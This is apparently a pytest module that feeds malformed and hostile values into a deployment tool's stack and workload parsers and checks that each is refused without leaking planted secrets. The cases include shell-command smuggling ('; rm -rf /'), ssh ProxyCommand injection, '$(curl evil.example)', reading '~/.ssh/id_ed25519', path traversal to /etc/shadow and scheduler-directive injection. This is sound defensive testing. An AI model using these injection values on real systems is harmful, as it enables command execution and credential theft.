"""The hostile-input battery: malformed and hostile values across every key of a stack's
configuration and of a workload definition, each refused before any resource is created (the
parsers run before `stacks/__main__.py` registers anything).

Each case states the exact key its refusal must name (the text before the first `: `), words its
fix must hold (after the problem's `; `), and runs against a stack that holds secrets: a private
key, its passphrase and an AWS secret key, each carrying a marker drawn afresh for every run, which
no refusal may echo (the workload's cases carry it in a step's environment). Every key of the
generated configuration reference (infra/config_reference.py, docs/configuration.md) has a case
(test_every_key_of_the_reference_has_a_case). The count in docs/troubleshooting.md comes from
`len(CASES)` (test_the_battery_is_counted)."""

from __future__ import annotations

import copy
import re
import secrets
from dataclasses import dataclass
from typing import Any

import pytest

from infra.config import AtlasConfigError, check_secrets_are_secret, parse_stack_config
from infra.config_reference import rows
from infra.workload.model import WorkloadError
from infra.workload.parse import parse_workload
from tests.support import REPO_ROOT
from tests.unit.test_any_workload import folder_definition

# Drawn for each run: a message can only hold it by echoing a secret of the stack.
MARKER = f"mk{secrets.token_hex(8)}"
PASSPHRASE = f"passphrase-{MARKER}"
AWS_SECRET_KEY = f"{MARKER}/AwsSecretKeyBody0123"
PRIVATE_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA" + MARKER + "\n-----END OPENSSH PRIVATE KEY-----\n"
)
KNOWN_HOSTS = "[127.0.0.1]:16022 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZ0b2tlbnRvYmVyZXBsYWNlZGJ5YXJlYWxrZXk=\n"
DIGEST = "sha256:" + "ab" * 32
REMOVE = object()  # a case's value that takes the key out

# A stack every case starts from: it parses (test_the_base_stack_is_accepted), and it holds the
# secrets (a passphrase and an inline private key on the HPC side, an AWS key pair).
BASE: dict[str, Any] = {
    "workload": "probe",
    "runId": "1",
    "openshift": {
        "flavour": "kubernetes",
        "namespace": "atlas-local",
        "kubeconfig": ".state/kubeconfig",
        "image": {"reference": "quay.io/atlas/probe:1"},
    },
    "hpc": {
        "satori": {
            "scheduler": "slurm",
            "host": "satori-login.mit.edu",
            "user": "alex",
            "queue": "normal",
            "known_hosts": KNOWN_HOSTS,
            "private_key_file": "/home/alex/.ssh/id_ed25519",
            "private_key_passphrase": PASSPHRASE,
        },
        "lab": {
            "scheduler": "lsf",
            "host": "lab-login.example.org",
            "known_hosts": KNOWN_HOSTS,
            "private_key": PRIVATE_KEY,
        },
    },
    "aws": {
        "region": "us-east-1",
        "endpoint_url": "http://127.0.0.1:16500",
        "ami": "ami-1e749f67",
        "access_key_id": "AKIAIOSFODNN7EXAMPLE",
        "secret_access_key": AWS_SECRET_KEY,
    },
}


@dataclass(frozen=True)
class Case:
    path: str  # where the value goes: dotted, from the atlas: values (or the workload definition)
    value: Any
    key: str  # the key the message names, exactly
    fix: str  # words the fix must hold
    kind: str = "config"  # config | workload | secret


def with_value(base: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """`base` with `value` at the dotted `path` (digits index lists; REMOVE takes the key out)."""
    config = copy.deepcopy(base)
    *parents, last = path.split(".")
    node: Any = config
    for part in parents:
        node = node[int(part)] if part.isdigit() else node.setdefault(part, {})
    if value is REMOVE:
        del node[last]
    elif last.isdigit():
        node[int(last)] = value
    else:
        node[last] = value
    return config


def C(path: str, value: Any, key: str, fix: str) -> Case:
    """A config case, one table row each (short, so a row fits a line or two)."""
    return Case(path, value, key, fix)


BUILD = {"git_uri": "https://github.com/example/atlas.git"}
OS = "atlas:openshift"
SATORI = "atlas:hpc.satori"
LAB = "atlas:hpc.lab"  # the LSF environment

CONFIG_CASES: list[Case] = [
    # --- the top level
    C("workload", "../../etc/passwd", "atlas:workload", "name a workload that ships"),
    C("workload", "probe; rm -rf ~", "atlas:workload", "name a workload that ships"),
    C("workload", {"name": "probe"}, "atlas:workload", "write it as a quoted string"),
    C("runId", "1; reboot", "atlas:runId", "use 1 to 32 lower-case letters"),
    C("runId", "x" * 200, "atlas:runId", "use 1 to 32 lower-case letters"),
    C("runId", "Run 1", "atlas:runId", "use 1 to 32 lower-case letters"),
    C("workloadSource", "", "atlas:workloadSource", "pulumi config set atlas:workloadSource PATH"),
    C("workloadSource", ["/x"], "atlas:workloadSource", "pulumi config set atlas:workloadSource PATH"),
    C("telemetry", {"interval": 1}, "atlas:*", "remove them or use one of: aws, backfill"),
    # --- atlas:openshift
    C("openshift", "yes", OS, "write it as `key: value` lines"),
    C("openshift.nodeSelector", {"gpu": "yes"}, OS, "use one of: context, data"),
    C("openshift.enabled", "yes please", f"{OS}.enabled", "write `enabled: true` or `false`"),
    C("openshift.flavour", "docker-swarm", f"{OS}.flavour", "use openshift or kubernetes"),
    C("openshift.flavour", "OpenShift; oc delete project x", f"{OS}.flavour", "use openshift or kubernetes"),
    C("openshift.namespace", "atlas; kubectl delete ns default", f"{OS}.namespace", "at most 63 lower-case letters"),
    C("openshift.namespace", "-leading-dash", f"{OS}.namespace", "at most 63 lower-case letters"),
    C("openshift.namespace", "a" * 64, f"{OS}.namespace", "at most 63 lower-case letters"),
    C("openshift.namespace", 7, f"{OS}.namespace", "at most 63 lower-case letters"),
    C("openshift.namespace", REMOVE, f"{OS}.namespace", "pulumi config set --path atlas:openshift.namespace"),
    C("openshift.kubeconfig", "a\nb", f"{OS}.kubeconfig", "write it as a quoted string"),
    C("openshift.context", ["ctx"], f"{OS}.context", "write it as a quoted string"),
    C("openshift.insecure_skip_tls_verify", "maybe", f"{OS}.insecure_skip_tls_verify",
      "write `insecure_skip_tls_verify: true` or `false`"),
    C("openshift.project", ["x"], f"{OS}.project", "write it as `key: value` lines"),
    C("openshift.project.create", "no", f"{OS}.project.create", "write `create: true` or `false`"),
    C("openshift.project.display_name", "x\ny", f"{OS}.project.display_name", "write it as a quoted string"),
    C("openshift.project.description", "a" * 5000, f"{OS}.project.description", "use at most 4096"),
    C("openshift.quota", 5, f"{OS}.quota", "write it as `key: value` lines"),
    C("openshift.quota.manage", "sometimes", f"{OS}.quota.manage", "write `manage: true` or `false`"),
    C("openshift.quota.gpus", -1, f"{OS}.quota.gpus", "use a number >= 0"),
    C("openshift.quota.gpus", "all", f"{OS}.quota.gpus", "write a number >= 0"),
    C("openshift.quota.cpu", "-4", f"{OS}.quota.cpu", "write a positive CPU amount"),
    C("openshift.quota.memory", "lots", f"{OS}.quota.memory", "write it like 500Gi"),
    C("openshift.quota.storage", "1e9; rm", f"{OS}.quota.storage", "write it like 500Gi"),
    C("openshift.quota.pvcs", 0, f"{OS}.quota.pvcs", "use a number >= 1"),
    C("openshift.storage", "200Gi", f"{OS}.storage", "write it as `key: value` lines"),
    C("openshift.storage.class", "Fast Storage", f"{OS}.storage.class", "at most 253 lower-case letters"),
    C("openshift.storage.data", "200Gi", f"{OS}.storage.data", "write it as `key: value` lines"),
    C("openshift.storage.data.size", "-10Gi", f"{OS}.storage.data.size", "write a positive storage size"),
    C("openshift.storage.data.size", "10GB", f"{OS}.storage.data.size", "write it like 500Gi"),
    C("openshift.storage.data.size", "0", f"{OS}.storage.data.size", "give a positive storage size"),
    C("openshift.storage.data.class", "UPPER", f"{OS}.storage.data.class", "at most 253 lower-case letters"),
    C("openshift.storage.data.access_mode", "ReadWriteOnce", f"{OS}.storage.data.access_mode", "remove the key"),
    C("openshift.storage.results", [], f"{OS}.storage.results", "write it as `key: value` lines"),
    C("openshift.storage.results.size", "5 Gi", f"{OS}.storage.results.size", "write it like 500Gi"),
    C("openshift.storage.results.class", "-x", f"{OS}.storage.results.class", "at most 253 lower-case letters"),
    C("openshift.storage.results.access_mode", "ReadOnlyMany", f"{OS}.storage.results.access_mode",
      "use one of ReadWriteMany, ReadWriteOnce"),
    C("openshift.storage.logs", 1, f"{OS}.storage.logs", "write it as `key: value` lines"),
    C("openshift.storage.logs.size", "1Xi", f"{OS}.storage.logs.size", "write it like 500Gi"),
    C("openshift.storage.logs.class", "a" * 300, f"{OS}.storage.logs.class", "at most 253 lower-case letters"),
    C("openshift.storage.logs.access_mode", "rwx", f"{OS}.storage.logs.access_mode",
      "use one of ReadWriteMany, ReadWriteOnce"),
    C("openshift.gpu", "V100", f"{OS}.gpu", "write it as `key: value` lines"),
    C("openshift.gpu.product", "Tesla V100; rm", f"{OS}.gpu.product", "write it as the node label shows it"),
    C("openshift.gpu.product", "Tesla-V100-SXM2-99GB", f"{OS}.gpu.product",
      "set atlas:openshift.gpu.check_product: false"),
    C("openshift.gpu.check_product", "nah", f"{OS}.gpu.check_product", "write `check_product: true` or `false`"),
    C("openshift.image", "quay.io/atlas/probe:1", f"{OS}.image", "write it as `key: value` lines"),
    C("openshift.image", {}, f"{OS}.image", "set atlas:openshift.image.reference to a pre-built image"),
    C("openshift.image.build", "yes", f"{OS}.image.build", "write it as `key: value` lines"),
    C("openshift.image.build", {}, f"{OS}.image.build.git_uri",
      "pulumi config set --path atlas:openshift.image.build.git_uri"),
    C("openshift.image.build", {"git_uri": "file:///etc/passwd"}, f"{OS}.image.build.git_uri",
      "set the git URL of this repository"),
    # a token in a git URL (GitHub's x-access-token form): refused, and the token never shown
    C("openshift.image.build", {"git_uri": f"https://x-access-token:{MARKER}@github.com/x/y.git; id"},
      f"{OS}.image.build.git_uri", "set the git URL of this repository"),
    C("openshift.image.build", {**BUILD, "git_ref": "main; rm -rf /"}, f"{OS}.image.build.git_ref",
      "write e.g. main or a commit id"),
    C("openshift.image.build", {**BUILD, "base_image": "python:3 --privileged"}, f"{OS}.image.build.base_image",
      "write registry/path:tag"),
    C("openshift.image.build", {**BUILD, "cpu": "-1"}, f"{OS}.image.build.cpu", "write a positive CPU amount"),
    C("openshift.image.build", {**BUILD, "memory": "8GB"}, f"{OS}.image.build.memory", "write it like 500Gi"),
    C("openshift.image.build", {**BUILD, "await": "eventually"}, f"{OS}.image.build.await",
      "write `await: true` or `false`"),
    C("openshift.image.build", {**BUILD, "timeout_seconds": 5}, f"{OS}.image.build.timeout_seconds",
      "use a number >= 60"),
    C("openshift.image.build", {**BUILD, "builder": "docker"}, f"{OS}.image.build.builder",
      "use openshift (the cluster's build controller) or atlas-local"),
    C("openshift.image.reference", "quay.io/atlas/probe:1 --privileged", f"{OS}.image.reference",
      "write registry/path:tag"),
    C("openshift.image.reference", "$(curl evil.example)", f"{OS}.image.reference", "write registry/path:tag"),
    C("openshift.image.workdir", "relative/dir", f"{OS}.image.workdir", "write the image's absolute WORKDIR"),
    C("openshift.data", "pvc://x", f"{OS}.data", "write it as `key: value` lines"),
    C("openshift.data.sources", ["pvc://x"], f"{OS}.data.sources", "write it as `input: url` lines"),
    C("openshift.data.sources", {"in": "file:///etc/shadow"}, f"{OS}.data.sources.in",
      "use pvc://<claim>/<path>"),
    C("openshift.data.sources", {"in": f"ftp://alex:{MARKER}@files.example.org/x"}, f"{OS}.data.sources.in",
      "use pvc://<claim>/<path>"),
    C("openshift.data.s3", "s3://x", f"{OS}.data.s3", "write it as `key: value` lines"),
    C("openshift.data.s3.endpoint", "ftp://s3.example.org", f"{OS}.data.s3.endpoint", "write https://s3.example.org"),
    C("openshift.data.s3.endpoint", f"ftp://AKIA:{MARKER}@s3.example.org", f"{OS}.data.s3.endpoint",
      "write https://s3.example.org"),
    C("openshift.data.s3.credentials_secret", "My Secret", f"{OS}.data.s3.credentials_secret",
      "at most 253 lower-case letters"),
    C("openshift.data.s3.image", "amazon/aws-cli:latest; id", f"{OS}.data.s3.image", "write registry/path:tag"),
    C("openshift.data.image", "not an image", f"{OS}.data.image", "write registry/path:tag"),
    C("openshift.data.timeout_seconds", 1, f"{OS}.data.timeout_seconds", "use a number >= 60"),
    C("openshift.pipeline", 3, f"{OS}.pipeline", "write it as `key: value` lines"),
    C("openshift.pipeline.backoff_limit", 10**9, f"{OS}.pipeline.backoff_limit", "use a number from 0 to 20"),
    C("openshift.pipeline.shm_size", "16GB", f"{OS}.pipeline.shm_size", "write it like 500Gi"),
    C("openshift.pipeline.await_last_step", "later", f"{OS}.pipeline.await_last_step",
      "write `await_last_step: true` or `false`"),
    C("openshift.monitor", "on", f"{OS}.monitor", "write it as `key: value` lines"),
    C("openshift.monitor.enabled", "on", f"{OS}.monitor.enabled", "write `enabled: true` or `false`"),
    C("openshift.monitor.await", 3, f"{OS}.monitor.await", "write `await: true` or `false`"),
    C("openshift.monitor.host", "evil.example/../x", f"{OS}.monitor.host", "at most 253 lower-case letters"),
    C("openshift.monitor.ingress_class", "Nginx Class", f"{OS}.monitor.ingress_class",
      "at most 253 lower-case letters"),
    C("openshift.monitor.image", "x y", f"{OS}.monitor.image", "write registry/path:tag"),
    # The login proxy is OpenShift's: on plain Kubernetes there is no OAuth server to send users to.
    C("openshift.monitor.proxy_image", "quay.io/openshift/origin-oauth-proxy:4.16", f"{OS}.monitor.proxy_image",
      "remove it (on Kubernetes the monitor is read through the API server's service proxy)"),
    C("openshift.placement", "anywhere", f"{OS}.placement", "write it as `key: value` lines"),
    C("openshift.placement.node_selector", ["gpu"], f"{OS}.placement.node_selector", "write it as `key: value` lines"),
    C("openshift.placement.node_selector", {"bad key!": "x"}, f"{OS}.placement.node_selector.bad key!",
      "write prefix/name, e.g. example.com/zone"),
    C("openshift.placement.node_selector", {"gpu": "yes; rm"}, f"{OS}.placement.node_selector.gpu",
      "quote it as a string of letters, digits"),
    C("openshift.placement.tolerations", {"key": "x"}, f"{OS}.placement.tolerations",
      "write a list of tolerations"),
    C("openshift.placement.tolerations", ["x"], f"{OS}.placement.tolerations[0]", "write it as `key: value` lines"),
    C("openshift.placement.tolerations", [{"key": "bad key!"}], f"{OS}.placement.tolerations[0].key",
      "write prefix/name, e.g. nvidia.com/gpu"),
    C("openshift.placement.tolerations", [{"key": "a", "operator": "Sometimes"}],
      f"{OS}.placement.tolerations[0].operator", "use Equal or Exists"),
    C("openshift.placement.tolerations", [{"key": "a", "value": "b c"}], f"{OS}.placement.tolerations[0].value",
      "quote it as a string"),
    C("openshift.placement.tolerations", [{"key": "a", "operator": "Exists", "value": "b"}],
      f"{OS}.placement.tolerations[0].value", "remove value, or use operator Equal"),
    C("openshift.placement.tolerations", [{"key": "a", "effect": "Sometimes"}],
      f"{OS}.placement.tolerations[0].effect", "use NoSchedule, PreferNoSchedule or NoExecute"),
    # --- atlas:hpc: option injection into ssh, bsub and sbatch; paths; types; ranges; secrets
    C("hpc", ["satori"], "atlas:hpc", "write it as `name: {...}` lines"),
    C("hpc.Satori_1", {"host": "h"}, "atlas:hpc.Satori_1", "rename it: at most 63 lower-case letters"),
    C("hpc.satori", "satori-login.mit.edu", SATORI, "write it as `key: value` lines"),
    C("hpc.satori.password", MARKER, SATORI, "remove them or use one of: account, apptainer"),
    C("hpc.satori.host", "-oProxyCommand=sh -c 'id>/tmp/pwned'", f"{SATORI}.host", "write e.g. satori-login-001"),
    C("hpc.satori.host", "login.mit.edu extra", f"{SATORI}.host", "write e.g. satori-login-001"),
    C("hpc.satori.host", REMOVE, f"{SATORI}.host", "pulumi config set --path atlas:hpc.satori.host"),
    C("hpc.satori.user", "-oProxyCommand=id", f"{SATORI}.user", "use letters, digits, '_', '.', '-'"),
    C("hpc.satori.user", "alex;id", f"{SATORI}.user", "use letters, digits, '_', '.', '-'"),
    C("hpc.satori.port", 70000, f"{SATORI}.port", "use a number from 1 to 65535"),
    C("hpc.satori.port", "22; id", f"{SATORI}.port", "use a number from 1 to 65535"),
    C("hpc.satori.port", True, f"{SATORI}.port", "use a number from 1 to 65535"),
    C("hpc.satori.scheduler", "pbs", f"{SATORI}.scheduler", "set lsf or slurm"),
    C("hpc.satori.scheduler", REMOVE, f"{SATORI}.scheduler", "pulumi config set --path atlas:hpc.satori.scheduler"),
    C("hpc.satori.queue", "normal -o /etc/passwd", f"{SATORI}.queue", "use letters, digits, '_', '-', '.'"),
    C("hpc.satori.queue", "gpu\n#SBATCH --uid=0", f"{SATORI}.queue", "keep it on one line"),
    C("hpc.satori.known_hosts", "not a host key line", f"{SATORI}.known_hosts", "generate entries with `ssh-keyscan"),
    # both: the one key that says so is known_hosts
    C("hpc.satori.known_hosts_file", "/etc/ssh/ssh_known_hosts", f"{SATORI}.known_hosts",
      "remove one of them (with neither, the host keys come from your ssh config"),
    C("hpc.satori.known_hosts_file", "/etc/ssh/ssh_known_hosts\n", f"{SATORI}.known_hosts_file",
      "keep it on one line"),
    C("hpc.lab.private_key", f"not a key {MARKER}", f"{LAB}.private_key", "paste the whole key file"),
    C("hpc.lab.private_key", PRIVATE_KEY * 200, f"{LAB}.private_key", "paste one key"),
    C("hpc.lab.private_key_file", "/home/alex/.ssh/id_ed25519", f"{LAB}.private_key",
      "remove one of them (with neither, your ssh-agent's keys"),
    C("hpc.satori.private_key_file", ["/x"], f"{SATORI}.private_key_file", "write it as a string"),
    # a key pasted into the path's field: refused without showing it
    C("hpc.satori.private_key_file", PRIVATE_KEY, f"{SATORI}.private_key_file", "keep it on one line"),
    C("hpc.satori.private_key_passphrase", ["a", MARKER], f"{SATORI}.private_key_passphrase", "set it with --secret"),
    C("hpc.satori.private_key_passphrase", f"a\n{MARKER}", f"{SATORI}.private_key_passphrase",
      "set it with --secret"),
    C("hpc.satori.ssh_config", "x\0y", f"{SATORI}.ssh_config", "keep it on one line"),
    C("hpc.satori.remote_work_dir", "../../etc", f"{SATORI}.remote_work_dir",
      "write a path that does not climb out of its directory"),
    C("hpc.satori.remote_work_dir", "/tmp/$(id)", f"{SATORI}.remote_work_dir", "use a plain path"),
    C("hpc.satori.poll_interval_seconds", 0, f"{SATORI}.poll_interval_seconds", "use 1 to 3600 seconds"),
    C("hpc.satori.poll_interval_seconds", "fast", f"{SATORI}.poll_interval_seconds", "write e.g. 60"),
    C("hpc.satori.scheduler_options", "GB", f"{SATORI}.scheduler_options", "write it as `key: value` lines"),
    C("hpc.satori.scheduler_options", {"colour": "blue"}, f"{SATORI}.scheduler_options.colour",
      "use one of: max_array_size"),
    C("hpc.satori.scheduler_options", {"memory_unit": "GB"}, f"{SATORI}.scheduler_options.memory_unit",
      "use one of: max_array_size"),
    C("hpc.lab.scheduler_options", {"memory_unit": "PB"}, f"{LAB}.scheduler_options.memory_unit",
      "use the cluster's LSF_UNIT_FOR_LIMITS"),
    C("hpc.lab.scheduler_options", {"max_array_size": "lots"}, f"{LAB}.scheduler_options.max_array_size",
      "use MAX_JOB_ARRAY_SIZE"),
    C("hpc.satori.scheduler_options", {"max_array_size": "0"}, f"{SATORI}.scheduler_options.max_array_size",
      "use MaxArraySize (scontrol show config"),
    C("hpc.satori.account", "lab; scancel -u alex", f"{SATORI}.account", "it becomes --account"),
    C("hpc.satori.account", "a" * 200, f"{SATORI}.account", "use at most 128"),
    C("hpc.satori.extra_directives", "--qos=high", f"{SATORI}.extra_directives", "write a list, e.g. [--qos=high]"),
    C("hpc.satori.extra_directives", ["--uid=0\n#!/bin/sh"], f"{SATORI}.extra_directives[0]",
      "keep each entry on one line"),
    C("hpc.satori.extra_directives", ["--job-name=other"], f"{SATORI}.extra_directives[0]", "remove this entry"),
    C("hpc.satori.extra_directives", ["--qos=$(id)"], f"{SATORI}.extra_directives[0]",
      "remove $: directive values are plain text"),
    C("hpc.satori.runtime", "docker", f"{SATORI}.runtime", "use one of bare, apptainer"),
    C("hpc.satori.apptainer", "yes", f"{SATORI}.apptainer", "write it as `key: value` lines"),
    C("hpc.satori.apptainer", {"command": "apptainer"}, f"{SATORI}.apptainer",
      "set runtime: apptainer, or remove apptainer"),
    *(
        C("hpc.satori", {**BASE["hpc"]["satori"], "runtime": "apptainer", "apptainer": apptainer},
          f"{SATORI}.apptainer.{key}", fix)
        for apptainer, key, fix in [
            ({"command": "apptainer; rm -rf ~"}, "command", "use letters, digits and . _ / + -"),
            ({"cache_dir": "../../etc"}, "cache_dir", "write a path that does not climb out of its directory"),
            ({"cache_dir": "/tmp/$(id)"}, "cache_dir", "use a plain path"),
            ({"image": "quay.io/a/b:1"}, "image", "give registry/repository@sha256:<64 hex digits>"),
            ({"source": "elsewhere"}, "source", "write e.g. here"),
            ({"pull_registry": "https://quay.io"}, "pull_registry", "give host or host:port"),
            ({"plain_http": "sure"}, "plain_http", "write `plain_http: true` or `false`"),
            # plain HTTP to a registry that only looks local (issue 34: the loopback check parses)
            ({"plain_http": True, "pull_registry": "localhost.example.com:5000"}, "plain_http",
             "remove plain_http (the registry speaks HTTPS), or pull from a registry on loopback"),
            ({"plain_http": True, "image": f"127.0.0.1.nip.io:5000/a/b@{DIGEST}"}, "plain_http",
             "remove plain_http (the registry speaks HTTPS)"),
            ({"image_arch": "x86_64"}, "image_arch", "use amd64, ppc64le, arm64 or s390x"),
            ({"binds": ["/data/../etc"]}, "binds", "list absolute paths of letters"),
        ]
    ),
    C("hpc.satori.skip_directives", "--time", f"{SATORI}.skip_directives", "write a list"),
    C("hpc.satori.skip_directives", ["--mem\n#SBATCH --uid=0"], f"{SATORI}.skip_directives[0]",
      "keep each entry on one line"),
    C("hpc.satori.skip_directives", ["--job-name"], f"{SATORI}.skip_directives[0]", "remove this entry"),
    C("hpc.lab.lsf_memory_unit", "TB", f"{LAB}.lsf_memory_unit", "use the cluster's LSF_UNIT_FOR_LIMITS"),
    C("hpc.satori.lsf_memory_unit", "GB", f"{SATORI}.lsf_memory_unit", "remove it for a Slurm target"),
    C("hpc.satori.enabled", "off", f"{SATORI}.enabled", "write `enabled: true` or `false`"),
    C("hpc.satori.wait_for", "make-hdf5", f"{SATORI}.wait_for", "write a list of the workload's step names"),
    C("hpc.satori.wait_for", ["Make_HDF5"], f"{SATORI}.wait_for", "write a list of the workload's step names"),
    C("hpc.satori.provenance", "", f"{SATORI}.provenance", "pulumi config set --path atlas:hpc.<name>.provenance"),
    C("hpc.satori.provenance", "real\n| forged | row |", f"{SATORI}.provenance",
      "pulumi config set --path atlas:hpc.<name>.provenance"),
    # --- atlas:aws
    C("aws", "us-east-1", "atlas:aws", "write it as `key: value` lines"),
    C("aws.regoin", "us-east-1", "atlas:aws", "did you mean region?"),
    C("aws.enabled", "nope", "atlas:aws.enabled", "write `enabled: true` or `false`"),
    C("aws.region", "mars-1", "atlas:aws.region", "name a commercial region, e.g. us-east-1"),
    C("aws.endpoint_url", "http://s3.example.com", "atlas:aws.endpoint_url", "use https://"),
    # a loopback name as a prefix, a suffix or a userinfo of a remote host is not loopback
    C("aws.endpoint_url", "http://localhost.example.com", "atlas:aws.endpoint_url", "use https://"),
    C("aws.endpoint_url", "http://127.0.0.1.evil.com:16500", "atlas:aws.endpoint_url", "use https://"),
    C("aws.endpoint_url", "http://0x7f.1:16500", "atlas:aws.endpoint_url", "use https://"),
    C("aws.endpoint_url", "http://[::ffff:127.0.0.1]:16500", "atlas:aws.endpoint_url", "use https://"),
    C("aws.endpoint_url", "http://user@localhost@evil", "atlas:aws.endpoint_url", "e.g. http://127.0.0.1:16500"),
    C("aws.endpoint_url", f"http://AKIA:{MARKER}@127.0.0.1:16500", "atlas:aws.endpoint_url",
      "e.g. http://127.0.0.1:16500"),
    C("aws.access_key_id", f"aws-{MARKER}", "atlas:aws.access_key_id", "paste the AKIA... id"),
    C("aws.access_key_id", REMOVE, "atlas:aws.access_key_id",
      "pulumi config set --secret --path atlas:aws.access_key_id"),
    C("aws.secret_access_key", "short", "atlas:aws.secret_access_key", "paste the key"),
    C("aws.secret_access_key", f"has a space {MARKER}", "atlas:aws.secret_access_key", "paste the key"),
    C("aws.secret_access_key", REMOVE, "atlas:aws.secret_access_key",
      "pulumi config set --secret --path atlas:aws.secret_access_key"),
    C("aws.instance_type", "p3.8xlarge; curl x", "atlas:aws.instance_type", "use one of: p3.2xlarge"),
    C("aws.instance_count", 10**6, "atlas:aws.instance_count", "use a number from 1 to 8"),
    C("aws.market", "free", "atlas:aws.market", "use one of: on-demand, spot"),
    C("aws.spot_max_price", 2.5, "atlas:aws.spot_max_price", "remove it, or set market: spot"),
    C("aws.ami", "ami-../../x", "atlas:aws.ami", "aws ssm get-parameter"),
    C("aws.ami", REMOVE, "atlas:aws.ami", "pulumi config set --path atlas:aws.ami"),
    C("aws.subnet_id", "subnet-$(id)", "atlas:aws.subnet_id", "write subnet-..., or leave it out"),
    C("aws.root_volume_gib", -5, "atlas:aws.root_volume_gib", "use a number from 8 to 16384"),
    C("aws.ssh_user", "root; id", "atlas:aws.ssh_user", "e.g. ubuntu or ec2-user"),
    C("aws.ssh_public_key", PRIVATE_KEY, "atlas:aws.ssh_public_key", "use the .pub half"),
    C("aws.ssh_public_key_file", "/nonexistent/id.pub", "atlas:aws.ssh_public_key_file", "point it at a .pub file"),
    C("aws.ssh_private_key_file", "/home/alex/.ssh/id_ed25519", "atlas:aws.ssh_private_key_file",
      "set ssh_public_key_file too, or remove both"),
    C("aws.allowed_ssh_cidrs", ["0.0.0.0/0"], "atlas:aws.allowed_ssh_cidrs[0]",
      "set atlas:aws.allow_ssh_from_anywhere: true"),
    C("aws.allowed_ssh_cidrs", ["10.0.0.0/33"], "atlas:aws.allowed_ssh_cidrs[0]", "write e.g. 203.0.113.7/32"),
    C("aws.allowed_ssh_cidrs", {"cidr": "10.0.0.0/8"}, "atlas:aws.allowed_ssh_cidrs",
      "write a list, e.g. [203.0.113.7/32]"),
    C("aws.allow_ssh_from_anywhere", "yes", "atlas:aws.allow_ssh_from_anywhere",
      "write `allow_ssh_from_anywhere: true` or `false`"),
    C("aws.execute", True, "atlas:aws.execute", "set execute: false, or point endpoint_url at AWS"),
    C("aws.ready_timeout_seconds", 10, "atlas:aws.ready_timeout_seconds", "use 60 to 7200"),
    C("aws.poll_interval_seconds", 0, "atlas:aws.poll_interval_seconds", "use 1 to 3600"),
    C("aws.wait_for", "make-hdf5", "atlas:aws.wait_for", "write a list of the workload's step names"),
    # --- atlas:backfill
    C("backfill", "on", "atlas:backfill", "write it as `key: value` lines"),
    C("backfill", {"enabled": "maybe"}, "atlas:backfill.enabled", "write `enabled: true` or `false`"),
    C("backfill", {"workload": "../../secret"}, "atlas:backfill.workload", "name a workload that ships"),
    C("backfill", {"gpus": 0}, "atlas:backfill.gpus", "use a number from 1 to 1024"),
    C("backfill", {"namespace": "Back Fill"}, "atlas:backfill.namespace", "use lower-case letters, digits and '-'"),
    C("backfill", {"priority": "max"}, "atlas:backfill.priority", "write a number >= -1000000"),
    C("backfill", {"partition": "backfill; scancel"}, "atlas:backfill.partition", "use letters, digits, _ . -"),
    C("backfill", {"environments": "satori"}, "atlas:backfill.environments", "write e.g. [openshift, satori-slurm]"),
    C("backfill", {"environments": ["nowhere"]}, "atlas:backfill.environments", "use some of: openshift, satori"),
    # --- atlas:sweep
    C("sweep", 3, "atlas:sweep", "write it as `key: value` lines"),
    C("sweep", {"max_attempts": 10}, "atlas:sweep.max_attempts", "use a number from 1 to 9"),
    C("sweep", {"max_attempts": "many"}, "atlas:sweep.max_attempts", "write a number >= 1"),
]

# A workload definition's values; every case's definition carries MARKER in a step's environment.
WORKLOAD_CASES: list[Case] = [
    Case(path, value, key, fix, "workload")
    for path, value, key, fix in [
        ("name", "Mine; rm -rf /", "name", "use at most 63 lower-case letters"),
        ("version", 2, "version", "write `version: 1`"),
        ("source", {"folder": "../../home/alex/.ssh"}, "source.folder", "write a path that stays inside its root"),
        ("source", {"folder": "/etc"}, "source.folder", "write it relative"),
        ("source", {"repository": "file:///etc", "branch": "main", "commit": "a" * 40}, "source.repository",
         "write https://host/owner/name"),
        ("source", {"repository": f"https://x-access-token:{MARKER}@github.com/x/y;id", "branch": "main",
                    "commit": "a" * 40}, "source.repository", "write https://host/owner/name"),
        ("source", {"repository": "https://github.com/x/y", "branch": "main; id", "commit": "a" * 40},
         "source.branch", "use letters, digits, '.', '_', '-', '/'"),
        ("source", {"repository": "https://github.com/x/y", "branch": "main", "commit": "HEAD"}, "source.commit",
         "write all 40 lower-case hex digits"),
        ("steps.0.name", "Make_Step", "steps[0].name", "use at most 63 lower-case letters"),
        ("steps.0.command", "sh make.sh", "steps[0].command", "write one token per item"),
        ("steps.0.args", ["--out", "$(cat ~/.ssh/id_ed25519)"], "steps[0].args[1]", "write the value out"),
        ("steps.0.args", ["--x", "`id`"], "steps[0].args[1]", "write the value out"),
        ("steps.0.args", ["--lr", 1.0e-4], "steps[0].args[1]", 'quote it as written, e.g. "0.0001"'),
        ("steps.0.env", {"LD_PRELOAD=/tmp/x.so": "1"}, "steps[0].env.LD_PRELOAD=/tmp/x.so",
         "use letters, digits and '_'"),
        ("steps.0.resources", {"nodes": 1, "gpus_per_node": 99, "cpus_per_task": 1, "memory": "1Gi",
                               "walltime": "00:01:00"}, "steps[0].resources.gpus_per_node",
         "use a number between 0 and 16"),
        ("steps.0.resources", {"nodes": 1, "gpus_per_node": 0, "cpus_per_task": 1, "memory": "64G",
                               "walltime": "00:01:00"}, "steps[0].resources.memory", "use a binary unit"),
        ("steps.0.resources", {"nodes": 1, "gpus_per_node": 0, "cpus_per_task": 1, "memory": "1Gi",
                               "walltime": 3600}, "steps[0].resources.walltime", 'quote it: walltime: "12:00:00"'),
        ("steps.0.resources", {"nodes": 0, "gpus_per_node": 0, "cpus_per_task": 1, "memory": "1Gi",
                               "walltime": "00:01:00"}, "steps[0].resources.nodes", "use a number >= 1"),
        ("data", {"outputs": [{"name": "out", "path": "../../../etc/cron.d/x"}]}, "data.outputs[0].path",
         "write a path that stays inside its root"),
        ("data", {"outputs": [{"name": "out", "path": "results/out.txt; id"}]}, "data.outputs[0].path",
         "use letters, digits, '.', '_', '-', '/'"),
        ("logs", {"root": "/var/log"}, "logs.root", "write it relative"),
        ("telemetry", {"root": "telemetry", "interval_seconds": 0}, "telemetry.interval_seconds",
         "use a number of seconds from 0.1 to 3600"),
        ("report", {"throughput": {"file": "logs/r", "pattern": "(?P<value>", "unit": "x/s"}},
